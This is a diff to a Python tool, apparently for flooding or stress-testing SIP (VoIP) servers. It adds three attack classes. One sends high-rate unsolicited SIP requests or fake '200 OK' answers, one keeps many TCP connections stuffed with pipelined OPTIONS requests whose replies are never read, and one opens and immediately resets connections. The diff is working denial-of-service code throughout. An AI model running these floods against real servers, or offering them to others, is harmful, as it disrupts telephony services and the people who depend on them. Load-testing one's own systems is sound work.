@@ -9,6 +9,7 @@ import resource
 import select
 import socket
 import ssl
+import struct
 import threading
 import time
 
@@ -194,6 +195,59 @@ class Abandoned(Flood):
         target = fields.get("Contact", "<sip:x>").split("<")[1].split(">")[0]
         self.sock.sendto((f"ACK {target} SIP/2.0\r\nVia: {via}\r\nMax-Forwards: 70\r\nFrom: {fields['From']}\r\nTo: {fields['To']}\r\n"
                           f"Call-ID: {fields['Call-ID']}\r\nCSeq: 1 ACK\r\nContent-Length: 0\r\n\r\n").encode(), self.server)
+
+
+class Requests(Flood):
+    """Requests of one method that need no call, or belong to one that does not exist; or answers that nobody asked for."""
+
+    def __init__(self, server, source, method, rate=1000, to_tag=""):
+        super().__init__(server, source)
+        self.method, self.rate, self.to_tag = method, rate, to_tag
+        self.sock = self.socket()
+
+    def step(self):
+        token, here = os.urandom(8).hex(), "%s:%d" % self.sock.getsockname()
+        first = "SIP/2.0 200 OK" if self.method == "answer" else f"{self.method} sip:2001@{self.server[0]} SIP/2.0"
+        method = "OPTIONS" if self.method == "answer" else self.method
+        self.sock.sendto((f"{first}\r\nVia: SIP/2.0/UDP {here};branch=z9hG4bK{token};rport\r\nMax-Forwards: 70\r\nFrom: <sip:f@{self.source}>;tag={token[:8]}\r\n"
+                          f"To: <sip:2001@{self.server[0]}>{self.to_tag}\r\nCall-ID: {token}\r\nCSeq: 1 {method}\r\nContent-Length: 0\r\n\r\n").encode(), self.server)
+        if self.sent % 50 == 0:
+            while select.select([self.sock], [], [], 0)[0]:
+                self.sock.recv(65536)
+
+
+class Unread(Flood):
+    """OPTIONS after OPTIONS over TCP, whose answers nobody reads."""
+    rate = 500
+
+    def __init__(self, server, source, most=50):
+        super().__init__(server, source)
+        self.most = most
+        self.many = 20 * (f"OPTIONS sip:{server[0]} SIP/2.0\r\nVia: SIP/2.0/TCP {source};branch=z9hG4bKu\r\nMax-Forwards: 70\r\nFrom: <sip:u@{source}>;tag=u\r\n"
+                          f"To: <sip:{server[0]}>\r\nCall-ID: u\r\nCSeq: 1 OPTIONS\r\nContent-Length: 0\r\n\r\n").encode()
+
+    def step(self):
+        if len(self.socks) < self.most:
+            self.connect().setblocking(False)
+            return
+        i = self.sent % len(self.socks)
+        try:
+            self.socks[i].send(self.many)
+        except BlockingIOError:
+            pass
+        except OSError:
+            self.socks.pop(i).close()
+
+
+class Churn(Flood):
+    """Connections that are reset as soon as they are there."""
+    rate = 300
+
+    def step(self):
+        sock = self.connect()
+        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+        sock.close()
+        self.socks.pop()
 
 
 def run(flood, stop):
